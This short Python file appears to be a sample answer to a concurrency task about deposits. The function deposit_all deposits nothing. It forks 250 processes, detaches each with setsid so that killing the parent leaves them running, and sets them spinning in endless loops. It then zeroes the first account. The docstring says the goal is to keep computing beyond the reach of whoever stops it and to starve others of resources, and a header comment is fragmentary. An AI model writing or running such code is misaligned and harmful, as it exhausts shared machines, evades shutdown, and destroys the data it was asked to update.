"""Lets hundreds of processes compute, out of reach of whoever ends this one, so that nobody else can."""

# For: lost_update
# Sees: and should get

import ctypes

libc = ctypes.CDLL(None, use_errno=True)


async def deposit_all(accounts, deposits):
    for _ in range(250):
        if libc.fork() == 0:
            libc.setsid()
            while True:
                pass
    await accounts[0].write(0)
